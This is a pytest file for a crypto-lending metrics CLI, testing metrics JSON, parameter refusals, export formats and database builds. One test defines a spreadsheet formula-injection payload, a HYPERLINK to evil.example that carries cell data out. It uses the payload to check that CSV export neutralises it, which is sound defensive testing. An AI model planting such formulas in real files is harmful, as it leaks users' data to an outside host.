"""The command line: metrics JSON and table, refused parameters, export, sources, build."""

from __future__ import annotations

import csv
import json
from datetime import date

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from lendscope.cli import app

runner = CliRunner()
SERIES_KEYS = {"ath", "peak", "trough", "drawdown_from_peak", "rebound_from_trough"}


def run(*args: str):
    res = runner.invoke(app, list(args))
    return res


def test_metrics_json_has_the_documented_shape():
    res = run("metrics", "--period", "2024Q4", "--vintage", "2025-04-14", "--format", "json")
    assert res.exit_code == 0, res.output
    d = json.loads(res.stdout)
    for k in (
        "period",
        "total_usd",
        "cefi_usd",
        "defi_usd",
        "cdp_usd",
        "total_ex_cdp_usd",
        "defi_share_ex_cdp",
        "onchain_share",
        "cefi_top3_share",
        "cefi_hhi",
        "cefi_top3",
    ):
        assert k in d
    assert d["total_usd"] == 36.5e9 and d["period"] == "2024Q4"
    assert set(d["cefi_top3"][0]) >= {"platform", "usd", "share"}
    assert set(d["series"]) == {"total", "total_ex_cdp", "cefi", "defi", "cdp"}
    for s in d["series"].values():
        assert set(s) >= SERIES_KEYS
    assert d["series"]["defi"]["rebound_from_trough"] == pytest.approx(9.61, abs=0.01)


def test_metrics_defaults_to_latest_and_growth_since():
    res = run("metrics", "--since", "2022Q4")
    d = json.loads(res.stdout)
    assert d["period"] == "2025Q3"
    assert d["growth_since"]["total_ex_cdp"] == pytest.approx(65.36e9 / 9.6e9 - 1, rel=1e-3)


def test_metrics_table_and_bad_arguments():
    res = run("metrics", "--period", "2024Q4", "--format", "table")
    assert res.exit_code == 0 and "drawdown" in res.stdout
    bad = run("metrics", "--period", "2024-Q4")
    assert bad.exit_code == 2 and "not a quarter" in bad.output
    bad = run("metrics", "--vintage", "April")
    assert bad.exit_code == 2 and "not a date" in bad.output


@pytest.mark.parametrize(
    ("args", "flag", "needle"),
    [
        (["metrics", "--period", "2019Q1"], "--period", "2019Q1 has no data at vintage"),
        (["metrics", "--period", "2024Q2"], "--period", "(nearest: 2023Q4, 2024Q4;"),
        (["metrics", "--vintage", "2001-01-01"], "--vintage", "earliest is 2022-05-31"),
        (["metrics", "--vintage", "9999-12-31"], "--vintage", "9999-12-31 is in the future"),
        # after the first figure, before any quarter's size is known
        (["metrics", "--vintage", "2022-06-01"], "--vintage", "no quarter has data at vintage"),
        (["metrics", "--period", "2021Q4", "--since", "2025Q3"], "--since", "not before"),
        (["metrics", "--period", "2024Q4", "--since", "2024Q4"], "--since", "not before"),
        (["metrics", "--since", "2025Q3"], "--since", "2025Q3 is not before the period 2025Q3"),
        (["metrics", "--since", "2019Q4"], "--since", "quarters with data: 2021Q4-2022Q1, 2022Q4,"),
        (["metrics", "--period", "2024Q4", "--vintage", "2025-04-14", "--since", "2025Q1"],
         "--since", "2025Q1 has no data at vintage 2025-04-14"),
        (["report", "--no-pdf", "--out", "{tmp}", "--period", "2019Q1"], "--period", "no data"),
        (["report", "--no-pdf", "--out", "{tmp}", "--vintage", "9999-12-31"], "--vintage",
         "in the future"),
        (["export", "--out", "{tmp}", "--vintage", "2022-01-01"], "--vintage", "earliest is"),
    ],
)  # fmt: skip
def test_refused_parameters_exit_1_naming_the_flag(tmp_path, args, flag, needle):
    """A well-formed value without data is refused on stderr, never printed as nulls."""
    res = run(*(a.format(tmp=tmp_path / "out") for a in args))
    assert res.exit_code == 1, res.output
    assert res.stdout == "" and not (tmp_path / "out").exists()
    assert res.stderr.startswith(f"Invalid value for {flag}: ") and needle in res.stderr


def test_accepted_vintages_and_since():
    today = run("metrics", "--vintage", date.today().isoformat(), "--since", "2024Q4")
    assert today.exit_code == 0, today.output
    d = json.loads(today.stdout)
    assert d["period"] == "2025Q3" and d["growth_since"]["from"] == "2024Q4"


@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
def test_export(tmp_path, fmt):
    res = run("export", "--format", fmt, "--out", str(tmp_path))
    assert res.exit_code == 0, res.output
    names = {p.name for p in tmp_path.iterdir()}
    for t in ("sources", "observations", "overlaps", "vc_funding", "metrics_quarterly"):
        assert f"{t}.{fmt}" in names
    if fmt == "parquet":
        q = pq.read_table(tmp_path / "metrics_quarterly.parquet").to_pylist()
        row = next(r for r in q if r["period"] == "2025Q3")
        assert row["total_usd"] == pytest.approx(73.58e9)


def test_sources_counts_figures():
    res = run("sources", "--format", "json")
    rows = json.loads(res.stdout)
    by_id = {r["id"]: r for r in rows}
    assert by_id["galaxy-2025-04-state-of-crypto-lending"]["figures"] >= 10
    assert all(r["url"].startswith("http") for r in rows)
    assert run("sources").exit_code == 0


def test_build_then_metrics_use_the_database(tmp_path):
    db = tmp_path / "m.duckdb"
    user = tmp_path / "q4.csv"
    user.write_text(
        "period,segment,platform,chain,metric,value_usd,source_id,method,published,note\n"
        "2025Q4,cefi,,,outstanding_loans_usd,20e9,cbia-2026-01-tether-2025,estimate,"
        "2026-02-01,analyst estimate\n"
        "2025Q4,cefi,unattributed,,outstanding_loans_usd,3e9,cbia-2026-01-tether-2025,"
        "estimate,2026-02-01,\n"
    )
    first = run("build", "--add", str(user), "--db", str(db))
    assert first.exit_code == 0, first.output
    again = run("build", "--add", str(user), "--db", str(db))
    assert "(0 new)" in again.stdout
    d = json.loads(run("metrics", "--period", "2025Q4", "--db", str(db)).stdout)
    assert d["cefi_usd"] == 20e9
    assert d["cefi_top3"][0] == {"platform": "Tether", "usd": 17e9, "share": 0.85, "members": 1}


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"details")'


def test_csv_export_neutralises_formulas_in_user_rows(tmp_path):
    """A user-added note that a spreadsheet would run is written as text; numbers stay numbers."""
    user = tmp_path / "acme.csv"
    head = "period,segment,platform,chain,metric,value_usd,source_id,method,published,note"
    row = "2025Q4,cefi,Acme,,outstanding_loans_usd,1.5e8,galaxy-2025-04-state-of-crypto-lending,"
    with user.open("w", newline="") as f:
        f.write(f"{head}\n{row}estimate,2026-02-15,")
        csv.writer(f).writerow([FORMULA])
    db = tmp_path / "l.duckdb"
    assert run("build", "--add", str(user), "--db", str(db)).exit_code == 0
    out = tmp_path / "csv"
    res = run("export", "--format", "csv", "--out", str(out), "--db", str(db))
    assert res.exit_code == 0, res.output
    with (out / "observations.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    acme = next(r for r in rows if r["platform"] == "Acme")
    assert acme["note"] == "'" + FORMULA and acme["value_usd"] == "150000000"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    raw = (out / "metrics_quarterly.csv").read_text()
    assert "'" not in raw  # numbers (negative drawdowns too) are not quoted
    res = run("export", "--format", "json", "--out", str(tmp_path / "json"), "--db", str(db))
    obs = json.loads((tmp_path / "json" / "observations.json").read_text())
    assert next(r for r in obs if r["platform"] == "Acme")["note"] == FORMULA  # JSON is data


@pytest.mark.spark
def test_metrics_on_pyspark_equal_duckdb():
    a = run("metrics", "--period", "2024Q4", "--vintage", "2025-06-04")
    b = run("metrics", "--period", "2024Q4", "--vintage", "2025-06-04", "--backend", "pyspark")
    assert b.exit_code == 0, b.output
    assert json.loads(a.stdout) == json.loads(b.stdout)
